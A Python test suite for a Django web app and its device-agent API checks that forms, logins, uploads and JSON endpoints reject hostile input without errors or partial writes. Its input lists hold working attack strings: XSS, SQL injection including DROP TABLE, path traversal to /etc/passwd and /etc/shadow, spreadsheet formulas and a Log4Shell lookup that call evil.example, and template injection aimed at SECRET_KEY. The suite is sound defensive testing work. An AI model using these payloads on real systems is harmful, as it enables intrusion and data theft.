"""Hostile input everywhere a person or device can type: never a server error, never a partial write.

Every text field of every form gets every hostile string; the API gets malformed bodies; uploads get
hostile names. A request that is refused must leave the stored data exactly as it was.
"""

from __future__ import annotations

import datetime as dt
import json
import re

import pytest
from django.apps import apps
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from hypothesis import HealthCheck, example, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st

from tebiki.web.devices.api import api, has_big_number
from tebiki.web.devices.models import CheckReport, CheckResult, EnrolmentToken
from tests.agent.test_rules import WIN_GOOD

HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' OR '1'='1' --",
    "1; DROP TABLE orgs_organisation; --",
    "../../../../etc/passwd",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{{ settings.SECRET_KEY }}",
    "${jndi:ldap://evil.example/a}",
    "\u202egnp.exe",
    "nul\x00byte",
    "𝕿𝖊𝖇𝖎𝖐𝖎 " * 30,
    "x" * 5000,
    "   ",
    "-1",
    "９９９９９９９９９９９９",
]


def counts() -> dict[str, int]:
    return {m._meta.label: m.objects.count() for m in apps.get_models() if m._meta.app_label in
            ("orgs", "assessments", "devices", "accounts")}


ITEM = ("item", lambda c: [c.org.id, "mic-v5:admin:A-1", "organisation"])
FORMS = [
    # (url name, args, base valid data, fields to attack, who)
    ("org_new", lambda c: [], {"name": "ok"}, ["name"], "admin"),
    ("setup_profile", lambda c: [c.org.id], {"name": "ok", "size": "45", "admin": "inhouse"}, ["name", "size", "admin",
                                                                                           "cloud"], "admin"),
    ("members", lambda c: [c.org.id], {"email": "a@b.example", "role": "worker"}, ["email", "role"], "admin"),
    (*ITEM, {"status": "partly", "decision": "will_do", "deadline": "2027-01-01", "owner": "佐藤", "reason": "r"},
     ["owner", "reason", "deadline", "decision", "status"], "admin"),
    ("item_status", ITEM[1], {"status": "done"}, ["status"], "admin"),
    ("create_token", lambda c: [c.org.id], {"label": "PCs"}, ["label"], "admin"),
]
CASES = [(name, args, base, field, who, s) for name, args, base, fields, who in FORMS for field in fields
         for s in HOSTILE]


@pytest.mark.parametrize("name,args,base,field,who,hostile", CASES,
                         ids=[f"{c[0]}-{c[3]}-{i % len(HOSTILE)}" for i, c in enumerate(CASES)])
def test_forms_survive_hostile_text(cast, name, args, base, field, who, hostile):
    client = cast.client(getattr(cast, who))
    before = counts()
    r = client.post(reverse(name, args=args(cast)), {**base, field: hostile})
    assert r.status_code < 500
    if r.status_code >= 400:
        assert counts() == before
    page = client.get(reverse("dashboard", args=[cast.org.id]), follow=True)
    assert page.status_code < 500
    assert "<script>alert(1)</script>" not in page.content.decode()


@pytest.mark.parametrize("hostile", HOSTILE)
def test_sign_in_survives_hostile_text(cast, hostile):
    r = Client().post("/accounts/login/", {"username": hostile, "password": hostile})
    assert r.status_code == 200 and "<script>alert(1)</script>" not in r.content.decode()


@pytest.mark.parametrize("hostile", HOSTILE)
def test_checklist_filters_survive_hostile_query_strings(cast, hostile):
    r = cast.client(cast.viewer).get(reverse("checklist", args=[cast.org.id]),
                                     {"role": hostile, "category": hostile, "scope": hostile, "show": hostile})
    assert r.status_code == 200


BAD_BODIES = [
    b"", b"{", b"null", b"[]", b"\"string\"", b"12", b"{\"idempotency_key\": null}", b"\xff\xfe\x00garbage",
    json.dumps({"idempotency_key": "k" * 20, "device": [], "as_of": "2026-01-01", "checks": {}}).encode(),
    json.dumps({"idempotency_key": "k" * 20, "device": {"key": "x" * 500, "hostname": "h", "os": "linux"},
                "as_of": "2026-01-01", "checks": {"firewall": {"verdict": "pass"}}}).encode(),
    json.dumps({"idempotency_key": "'; DROP TABLE devices_device; --", "device": {}, "as_of": "x", "checks": {}}).encode(),
    json.dumps({"idempotency_key": "k" * 20, "device": {"key": "abcdefgh", "hostname": "h", "os": "linux"},
                "as_of": "2026-13-45", "checks": {"firewall": {"verdict": "pass"}}}).encode(),
    json.dumps({"reports": []}).encode(),
    json.dumps({"reports": [{}] * 600}).encode(),
    json.dumps({"idempotency_key": "k" * 20, "device": {"key": "abcdefgh", "hostname": "h", "os": "linux"},
                "files": {"linux/" + "a" * 100: "x"}}).encode(),
    b"{" * 10000,
    json.dumps({"a": "x" * 300_000}).encode(),
    json.dumps({"idempotency_key": "k" * 20, "device": {"key": "abcdefgh", "hostname": "h", "os": "linux"},
                "as_of": "2026-01-01", "checks": {"firewall": {"verdict": "pass", "evidence": "not a dict"}}}).encode(),
]


@pytest.mark.parametrize("path", ["/api/v1/agent/reports", "/api/v1/agent/reports/batch", "/api/v1/agent/captures"])
@pytest.mark.parametrize("body", BAD_BODIES, ids=range(len(BAD_BODIES)))
def test_the_api_refuses_malformed_bodies_without_storing(cast, path, body):
    _, token = EnrolmentToken.issue(cast.org, "t", None)
    before = counts()
    r = Client().post(path, body, content_type="application/json", headers={"Authorization": f"Bearer {token}"})
    assert 400 <= r.status_code < 500, r.status_code
    assert {k: v for k, v in counts().items() if k != "devices.EnrolmentToken"} == \
           {k: v for k, v in before.items() if k != "devices.EnrolmentToken"}


UPLOAD_NAMES = ["../../../etc/passwd.txt", "..\\..\\windows\\win.ini.txt", "/etc/shadow.txt", "a\x00.pdf.txt",
                "CON.txt", "<script>.txt", "very" * 100 + ".txt", ".txt", "report.pdf.exe", "ファイル名.txt"]


@pytest.mark.parametrize("filename", UPLOAD_NAMES)
def test_hostile_upload_names_are_kept_as_data_only(cast, filename, settings):
    from tebiki.web.assessments.models import Evidence

    client = cast.client(cast.admin)
    r = client.post(reverse("evidence_upload", args=[cast.org.id, "mic-v5:admin:A-1", "organisation"]),
                    {"file": SimpleUploadedFile(filename, b"plain text evidence")})
    assert r.status_code < 500
    for ev in Evidence.objects.all():
        stored = ev.file.path
        assert stored.startswith(str(settings.MEDIA_ROOT)) and ".." not in ev.file.name
        assert "<script>" not in client.get(reverse("item", args=[cast.org.id, "mic-v5:admin:A-1",
                                                                  "organisation"])).content.decode()


def test_the_suite_has_at_least_two_hundred_cases():
    assert len(CASES) + 2 * len(HOSTILE) + 3 * len(BAD_BODIES) + len(UPLOAD_NAMES) >= 200


# ---------------------------------------------------------------------------------------- JSON the database refuses
# Python's JSON reader accepts NaN, Infinity, integers of any size and any nesting; the databases' JSON columns
# (and their CHECK constraints) do not, and a lone surrogate cannot be encoded at all. Each must be a 4xx with a
# reason, never a 500, and nothing of the body may be stored.

OPENAPI = api.get_openapi_schema(path_prefix=reverse("api:openapi-json").removesuffix("openapi.json"))
JSON_ENDPOINTS = sorted((path, method) for path, ops in OPENAPI["paths"].items() for method, op in ops.items()
                        if "application/json" in op.get("requestBody", {}).get("content", {}))
NUMBERS = ["NaN", "Infinity", "-Infinity", "1e400", "-1e400", "9" * 20, "-" + "9" * 30, "1" * 5000]
NESTING = ["[" * 33 + "]" * 33, "[" * 1000 + "]" * 1000, "[" * 30_000 + "]" * 30_000,
           '{"a":' * 30_000 + "1" + "}" * 30_000]
ESCAPES = [r'"\u0000"', r'"\\u0000"', r'"\\\u0000"', r'"\ud800"', r'"x\udfff"', r'"\ud83d\ude00"',
           r'"\"\\\/\b\f\n\r\t"', r'"\u202e\u0085"', r'"\\ud800"']
MARK = "@@HOSTILE@@"  # the generated strings never contain "@"
SAFE = st.characters(codec="utf-8", categories=["L", "N"], exclude_characters="@")


def from_schema(node: dict) -> st.SearchStrategy:
    """Valid values for an OpenAPI schema node, every optional property included, so hostile values reach as far
    into the handlers as a real body does."""
    if "$ref" in node:
        return from_schema(OPENAPI["components"]["schemas"][node["$ref"].rsplit("/", 1)[1]])
    if "anyOf" in node:
        return from_schema(next(o for o in node["anyOf"] if o.get("type") != "null"))
    if "enum" in node:
        return st.sampled_from(node["enum"])
    kind = node.get("type")
    if kind == "object":
        fixed = st.fixed_dictionaries({k: from_schema(v) for k, v in node.get("properties", {}).items()})
        if "propertyNames" in node:
            extra = st.dictionaries(st.sampled_from(node["propertyNames"]["enum"]),
                                    from_schema(node["additionalProperties"]), min_size=1, max_size=2)
        elif "patternProperties" in node:
            [(pattern, value)] = node["patternProperties"].items()
            extra = st.dictionaries(st.from_regex(pattern, fullmatch=True), from_schema(value), min_size=1, max_size=2)
        elif node.get("additionalProperties") is True:
            extra = st.dictionaries(st.text(SAFE, min_size=1, max_size=8), st.integers(-9, 9) | st.text(SAFE),
                                    max_size=2)
        else:
            return fixed
        return st.builds(lambda a, b: {**a, **b}, fixed, extra)
    if kind == "array":
        return st.lists(from_schema(node["items"]), min_size=max(1, node.get("minItems", 0)), max_size=2)
    if kind == "string" and node.get("format") == "date":
        return st.dates(dt.date(2021, 1, 1), dt.date(2026, 11, 30)).map(dt.date.isoformat)
    if kind == "string":
        low, high = node.get("minLength", 0), min(node.get("maxLength", 40), 40)
        return st.from_regex(node.get("pattern", ".*"), fullmatch=True, alphabet=SAFE).filter(
            lambda s: low <= len(s) <= high)
    return {"integer": st.integers(0, 100), "boolean": st.booleans()}[kind]


def places(value, path=()):
    """The path of every value inside *value*, the whole body included."""
    yield path
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, child in items:
        yield from places(child, (*path, key))


def with_fragment(body, path, fragment: str) -> bytes:
    """*body* as JSON text with the value at *path* replaced by a raw JSON *fragment*."""
    if not path:
        return fragment.encode()
    body = json.loads(json.dumps(body))
    *parents, last = path
    node = body
    for key in parents:
        node = node[key]
    node[last] = MARK
    return json.dumps(body).replace(json.dumps(MARK), fragment).encode()


def stored_rows() -> dict[str, int]:
    return {k: v for k, v in counts().items() if k != "devices.EnrolmentToken"}


def test_every_json_endpoint_of_the_schema_is_attacked():
    assert [p for p, _ in JSON_ENDPOINTS] == ["/api/v1/agent/captures", "/api/v1/agent/reports",
                                            "/api/v1/agent/reports/batch", "/api/v1/orgs/{org_id}/items/{item_id}/{scope}"]


def credentials(cast, op: dict) -> str:
    """A token for the operation's security scheme (a new scheme fails here until it is added)."""
    from tebiki.web.orgapi.models import ApiToken

    [[scheme]] = [list(s) for s in op["security"]]
    issue = {"TokenAuth": lambda: EnrolmentToken.issue(cast.org, "t", None)[1],
             "OrgTokenAuth": lambda: ApiToken.issue(cast.org, "t", cast.admin, access="write")[1]}[scheme]
    return cast.__dict__.setdefault(f"token_{scheme}", issue())


def address(cast, path: str) -> str:
    """*path* with its parameters aimed at a real item of the cast's organisation."""
    return path.format(org_id=cast.org.id, item_id="mic-v5:admin:A-1", scope="organisation")


@pytest.mark.parametrize("path,method", JSON_ENDPOINTS)
@given(data=st.data())
@hsettings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                  HealthCheck.too_slow])
def test_hostile_json_anywhere_in_a_body_is_refused_or_stored_whole(cast, path, method, data):
    op = OPENAPI["paths"][path][method]
    token = credentials(cast, op)
    schema = op["requestBody"]["content"]["application/json"]["schema"]
    body = data.draw(from_schema(schema), label="body")
    where = data.draw(st.sampled_from(list(places(body))), label="where")
    fragment = data.draw(st.sampled_from(NUMBERS + NESTING + ESCAPES), label="fragment")
    before = stored_rows()
    r = Client().generic(method.upper(), address(cast, path), with_fragment(body, where, fragment),
                         content_type="application/json", headers={"Authorization": f"Bearer {token}"})
    assert r.status_code < 500, r.content[:300]
    if fragment not in ESCAPES:  # never JSON a database keeps: refused while reading, before any validation
        assert r.status_code == 400 and r.json()["detail"].startswith("Cannot parse request body: "), r.content
    if r.status_code >= 400:
        assert stored_rows() == before


def agent_post(cast, path, raw: bytes | str):
    _, token = EnrolmentToken.issue(cast.org, "t", None)
    return Client().post(path, raw, content_type="application/json", headers={"Authorization": f"Bearer {token}"})


def report_text(evidence: str = '{"x": 1}', as_of: str = '"2026-11-20"') -> str:
    return ('{"idempotency_key": "hostile-0001", "as_of": AS_OF, "device": {"key": "dev-0001", "hostname": "PC",'
            ' "os": "linux"}, "checks": {"firewall": {"verdict": "pass", "evidence": EVIDENCE}}}'
            ).replace("AS_OF", as_of).replace("EVIDENCE", evidence)


BIG_NUMBER = re.compile(rb"[0-9]{19}|[eE][+-]?[0-9]{3}")  # what the prefilter must find: 19 digits, a 3-digit exponent


@given(st.binary(max_size=80) | st.text(alphabet="0123456789eE+-.,: x\"{}[]１", max_size=60).map(str.encode))
@example(b"1" * 19)
@example(b"-" + b"9" * 18 + b".5")
@example(b'{"v": 1234567890123456789}')
@example(b"1e308")
@example(b"1E+308")
@example(b"2.5e-400")
@example(b"1e30")
@example(b"1e+30")
@example(b"e 123")
def test_the_big_number_prefilter_finds_exactly_the_shapes_of_a_number_beyond_64_bits(body):
    assert has_big_number(body) == bool(BIG_NUMBER.search(body))


@pytest.mark.parametrize("evidence,reason", [
    ('{"x": NaN}', "NaN is not a number in JSON"),
    ('{"x": Infinity}', "Infinity is not a number in JSON"),
    ('{"x": [-Infinity]}', "-Infinity is not a number in JSON"),
    ('{"x": 1e400}', "too large for a 64-bit float"),
    (f'{{"x": {2**64}}}', "integer is out of range"),
    (f'{{"x": {"9" * 5000}}}', "integer is out of range"),
    (f'{{"x": {"[" * 30_000 + "]" * 30_000}}}', "nested deeper than 32 levels"),
    (r'{"x": "\udc00"}', "unpaired surrogate"),
])
def test_numbers_nesting_and_strings_no_database_keeps_are_refused_with_the_reason(cast, evidence, reason):
    before = stored_rows()
    r = agent_post(cast, "/api/v1/agent/reports", report_text(evidence))
    assert r.status_code == 400 and reason in r.json()["detail"]
    assert stored_rows() == before


@pytest.mark.parametrize("as_of", ['"0001-01-01"', '"2019-12-31"', '"9999-12-31"', '"2100-01-01"'])
def test_a_report_dated_before_tebiki_or_in_the_future_is_refused(cast, as_of):
    r = agent_post(cast, "/api/v1/agent/reports", report_text(as_of=as_of))
    assert r.status_code == 422 and r.json()["detail"][0]["loc"] == ["body", "report", "as_of"]
    assert "clock" in r.json()["detail"][0]["msg"] and not CheckReport.objects.exists()


def test_a_capture_dated_year_one_is_refused_before_it_is_evaluated(cast):
    body = {"idempotency_key": "capture-0001", "as_of": "0001-01-01", "files": WIN_GOOD,
            "device": {"key": "dev-win-1", "hostname": "PC", "os": "windows"}}
    r = agent_post(cast, "/api/v1/agent/captures", json.dumps(body))
    assert r.status_code == 422 and r.json()["detail"][0]["loc"] == ["body", "capture", "as_of"]


def test_the_text_backslash_u0000_is_stored_as_sent(cast):
    r = agent_post(cast, "/api/v1/agent/reports", report_text(r'{"path": "C:\\u0000\\", "x": "\\\\u0000"}'))
    assert r.status_code == 201, r.content
    assert CheckResult.objects.get().evidence == {"path": "C:\\u0000\\", "x": "\\\\u0000"}


def test_a_capture_naming_a_share_with_a_nul_or_the_text_backslash_u0000_is_stored_without_the_nul(cast):
    shares = json.dumps([{"Name": "ends\\u0000", "Special": False, "ShareType": 0},
                         {"Name": "nul\x00here", "Special": False, "ShareType": 0}])
    body = {"idempotency_key": "capture-0002", "as_of": "2026-11-01", "files": {**WIN_GOOD, "windows/shares.json": shares},
            "device": {"key": "dev-win-1", "hostname": "PC", "os": "windows"}}
    r = agent_post(cast, "/api/v1/agent/captures", json.dumps(body))
    assert r.status_code == 201, r.content
    assert CheckResult.objects.get(check_id="file_sharing_off").evidence["shares"] == ["ends\\u0000", "nulhere"]


def test_a_capture_file_nested_30000_levels_deep_makes_its_check_unknown(cast):
    deep = "[" * 30_000 + "]" * 30_000
    body = {"idempotency_key": "capture-0003", "as_of": "2026-11-01", "files": {**WIN_GOOD, "windows/bitlocker.json": deep},
            "device": {"key": "dev-win-1", "hostname": "PC", "os": "windows"}}
    r = agent_post(cast, "/api/v1/agent/captures", json.dumps(body))
    assert r.status_code == 201, r.content
    result = CheckResult.objects.get(check_id="disk_encryption")
    assert result.verdict == "unknown" and "bitlocker.json" in result.reason
